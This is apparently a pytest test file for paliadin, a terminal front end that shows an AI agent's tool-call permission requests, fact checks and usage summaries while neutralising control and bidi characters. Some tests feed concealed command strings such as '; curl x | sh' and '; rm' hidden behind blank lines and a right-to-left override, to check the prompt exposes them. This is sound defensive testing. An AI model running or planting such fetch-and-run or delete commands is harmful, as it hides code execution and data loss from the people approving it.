import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from paliadin.base.terminal_text import clean, json_line, one_line
from paliadin.cli import interrupts
from paliadin.cli.facts import count_line, fact_lines
from paliadin.cli.markdown import split_blocks
from paliadin.cli.turn_printer import summary

RED_OR_BLUE = {"question": "Which?", "multi": False, "options": [{"label": "Red"}, {"label": "Blue"}]}
SEVERAL = {**RED_OR_BLUE, "multi": True}
OPEN = {"question": "When?", "multi": False, "options": []}


def test_clean_text_shows_control_characters_instead_of_obeying_them() -> None:
    assert clean("a\x1b[2Jb\x07\x7f\x9b\u202e\ud800\tc\r\nd\re") == "a␛[2Jb␇␡\ufffd\ufffd\ufffd\tc\nd␍e"


def test_one_line_is_cut_with_an_ellipsis() -> None:
    assert one_line(" a\n\tb   c ", 5) == "a b c"
    assert one_line("abcdef", 5) == "abcd…"


@given(st.dictionaries(st.text(), st.text()))
def test_json_line_is_one_line_that_means_the_same(value: dict[str, str]) -> None:
    line = json_line(value)
    assert json.loads(line) == value
    assert clean(line) == line
    assert "\n" not in line


@pytest.mark.parametrize(
    ("question", "line", "value"),
    [
        (RED_OR_BLUE, "2\n", "Blue"),
        (RED_OR_BLUE, "green, please\n", "green, please"),
        (RED_OR_BLUE, " \n", None),
        (SEVERAL, "2, 1 2\n", ["Blue", "Red"]),
        (SEVERAL, "1\n", ["Red"]),
        (SEVERAL, "none of them\n", ["none of them"]),
        (OPEN, "3\n", "3"),
    ],
)
def test_typed_line_becomes_a_reply(question: interrupts.JsonObject, line: str, value: object) -> None:
    assert interrupts.parse_reply(line, question) == value


@pytest.mark.parametrize(
    ("question", "line"), [(RED_OR_BLUE, "3"), (RED_OR_BLUE, "0"), (RED_OR_BLUE, "1,2"), (SEVERAL, "1 3")]
)
def test_number_that_fits_no_option_is_asked_again(question: interrupts.JsonObject, line: str) -> None:
    with pytest.raises(interrupts.InvalidReply):
        interrupts.parse_reply(line, question)


def test_long_tool_input_is_marked_as_cut() -> None:
    shown = interrupts.permission_text({"input": {"content": "x" * 4900 + "; curl | sh"}})
    assert "⟨920 characters are left out here: the page shows them⟩" in shown
    assert shown.endswith("xx; curl | sh")


def test_no_blanks_hide_the_end_of_what_is_asked_for() -> None:
    command = "echo harmless" + "\n" * 300 + "; curl x\u202e | sh" + " " * 200 + "; rm"
    assert interrupts.permission_text({"input": {"command": command, "n": 1}}).split("\n") == [
        "    command: echo harmless",
        "    ⟨299 blank lines⟩",
        "    ; curl x⟨U+202E⟩ | sh⟨200 blanks⟩; rm",
        "    n: 1",
    ]


def test_an_input_of_which_a_part_is_missing_says_so() -> None:
    assert (
        interrupts.permission_text({"input": {"command": "a"}, "cut": True}).split("\n")[1].startswith("! This was too")
    )


def test_a_link_in_the_path_is_told_with_the_file_that_is_meant() -> None:
    text = interrupts.permission_text({"input": {"file_path": "/a"}, "leads_to": "/b\n\u202ec"})
    warning = "! A link stands in this path. It leads to /b⟨U+000A⟩⟨U+202E⟩c"
    assert text.split("\n") == ["    file_path: /a", warning]


@pytest.mark.parametrize(
    ("text", "complete"),
    [
        ("one", ""),
        ("one\n\ntwo", "one\n\n"),
        ("# h\ntext\n", "# h\n"),
        ("- a\n\n- b\n\n  more\n", ""),
        ("a\n\n```\nb\n\nc", "a\n\n"),
        ("a\n\n| x |\n|---|\n| 1 |\n", "a\n\n"),
        ("", ""),
    ],
)
def test_only_the_last_block_is_still_open(text: str, complete: str) -> None:
    assert split_blocks(text) == (complete, text.removeprefix(complete))


def test_summary_says_where_the_trailer_claims_other_tools() -> None:
    evidence = {"classifier_tag": "data", "observed_tools": ["Read"], "used_tools": ["sql"], "agrees": False}
    usage = {"input_tokens": 4, "cache_read_tokens": 1200, "cache_write_tokens": None, "output_tokens": 33}
    end = {"duration_ms": 1234, "usage": usage, "aborted": False}
    assert summary(evidence, end) == "1.2 s · 1,204 tokens read, 33 written · data · File read · claims Sql"


def test_summary_says_which_rows_the_trailer_claims_where_the_tools_agree() -> None:
    rows = {"tool": "Read\x1b[2J", "what": "rows", "claimed": 5, "seen": 12}
    evidence = {"observed_tools": ["Read"], "used_tools": ["Read"], "agrees": False, "differences": [rows]}
    end = {"duration_ms": None, "usage": None, "aborted": False}
    assert summary(evidence, end) == "File read · Read⟨U+001B⟩[2J: 5 rows named, 12 rows returned"
    other = {"tool": "sql", "what": "not_run", "claimed": None, "seen": None}
    assert summary({**evidence, "differences": [other, rows]}, end) == "File read · claims File read"


def test_facts_are_counted_by_what_is_known_of_them() -> None:
    counts = {"found": 10, "derived": 1, "common": 7, "unsupported": 1}
    assert count_line(counts) == "12 facts: 10 found, 1 derived, 1 not found in anything Claude looked up"
    assert count_line({"given": 1}) == "1 fact: 1 from the question or the page"
    assert [count_line(each) for each in (None, {}, {"common": 3})] == ["", "", ""]


CALL = {"origin": "call", "call": "t", "turn_id": None, "line": 14, "text": "due; 12 May"}
CLAIMS = [
    {"text": "12 May", "status": "found", "rule": None, "sources": [CALL]},
    {"text": "3", "status": "derived", "rule": "count", "sources": [CALL, {**CALL, "line": 15}, CALL, CALL, CALL]},
    {"text": "14\n\x1b[2J\u202eMay", "status": "unsupported", "rule": None, "sources": []},
    {"text": "2026", "status": "common", "rule": None, "sources": []},
    {"text": "room 12", "status": "unknown", "rule": None, "sources": []},
    {"text": "D-1", "status": "given", "rule": None, "sources": [
        {"origin": "question", "call": None, "turn_id": None, "line": None, "text": "D-1\u202e?"},
        {**CALL, "turn_id": "01a1fdb6", "call": "x"},
        {**CALL, "call": "gone", "line": None, "text": ""},
    ]},
]  # fmt: skip


def test_facts_that_were_not_found_are_named_and_nothing_in_them_is_obeyed() -> None:
    lines = fact_lines(CLAIMS, {"t": "Read"}, everything=False)
    assert lines == ["  not found: 14 ⟨U+001B⟩[2J⟨U+202E⟩May"]


def test_all_facts_are_told_with_their_sources_on_request_the_worst_first() -> None:
    due = 'File read, line 14: "due; 12 May"'
    assert fact_lines(CLAIMS, {"t": "Read"}, everything=True)[1:] == [
        "  cannot be checked: room 12",
        f"  derived by counting: 3 ({due}; File read, line 15: {due[20:]}; {due}; and 2 more)",
        f"  found: 12 May ({due})",
        f'  given: D-1 (the question: "D-1⟨U+202E⟩?"; turn 01a1fdb6, line 14: {due[20:]}; a tool)',
    ]


STATED = [
    {"text": "87 %", "status": "calculated", "rule": None, "sources": [CALL],
     "calculation": {"text": "13 / 15", "comes_to": "87 %", "assumes": []}},
    {"text": "15 May", "status": "calculated", "rule": None, "sources": [],
     "calculation": {"text": "1 May + 14\x1b days", "comes_to": "2026-05-15", "assumes": ["14 days"]}},
    {"text": "78 %", "status": "differs", "rule": None, "sources": [],
     "calculation": {"text": "13 / 15", "comes_to": "87 %", "assumes": []}},
    {"text": "16 May", "status": "differs", "rule": None, "sources": [],
     "calculation": {"text": '"due 15 May"', "comes_to": "", "assumes": []}},
]  # fmt: skip


def test_stated_calculations_are_told_and_what_does_not_add_up_is_told_always() -> None:
    assert fact_lines(STATED, {}, everything=False) == [
        "  does not add up: 78 % (13 / 15 is 87 %, not 78 %)",
        '  does not add up: 16 May (the line says "due 15 May")',
    ]
    assert fact_lines(STATED, {"t": "Read"}, everything=True)[2:] == [
        '  calculated: 87 % (13 / 15; File read, line 14: "due; 12 May")',
        "  calculated: 15 May (1 May + 14⟨U+001B⟩ days; assumes 14 days)",
    ]
    counts = {"calculated": 2, "differs": 2}
    assert count_line(counts) == "4 facts: 2 calculated, 2 not adding up"


@given(st.text(), st.text(), st.text())
def test_no_fact_or_source_breaks_out_of_its_line(fact: str, words: str, tool: str) -> None:
    claims = [{"text": fact, "status": "found", "rule": None, "sources": [{**CALL, "text": words}]}]
    [line] = fact_lines(claims, {"t": tool}, everything=True)
    assert clean(line) == line
    assert "\n" not in line


@pytest.mark.parametrize("usage", [None, {}, {"input_tokens": None, "output_tokens": None}])
def test_summary_says_nothing_of_tokens_that_are_not_known(usage: object) -> None:
    assert summary({}, {"duration_ms": None, "usage": usage, "aborted": True}) == "no tools · stopped"


def test_a_plan_is_shown_whole_and_as_it_is() -> None:
    plan = "# Plan\n\n" + "1. A step.\n" * 1_000
    shown = interrupts.permission_text({"tool": "ExitPlanMode", "input": {"plan": plan, "planFilePath": "/p"}})
    assert shown.startswith("    # Plan\n    \n    1. A step.\n")
    assert shown.count("1. A step.") == 1_000
    assert "x: 1" in interrupts.permission_text({"tool": "ExitPlanMode", "input": {"plan": "", "x": 1}})
    long = interrupts.permission_text({"tool": "ExitPlanMode", "input": {"plan": "x" * 90_000}})
    assert "50000 characters are left out here" in long


def test_an_options_preview_stands_below_it_and_hides_nothing() -> None:
    options = [{"label": "A", "description": "first", "preview": "┌──┐\n└──┘\x1b[2J"}, {"label": "B"}]
    assert interrupts.options_text(options).split("\n") == [
        "  1) A - first",
        "     │ ┌──┐",
        "     │ └──┘⟨U+001B⟩[2J",
        "  2) B",
    ]


def test_a_dialog_of_the_terminal_is_shown_as_it_stands_there() -> None:
    assert interrupts.dialog_text({"input": {"screen": "Yes?\n\n❯ No"}}) == "    │ Yes?\n    │\n    │ ❯ No"
    assert interrupts.dialog_text({"input": None}) == "    │"
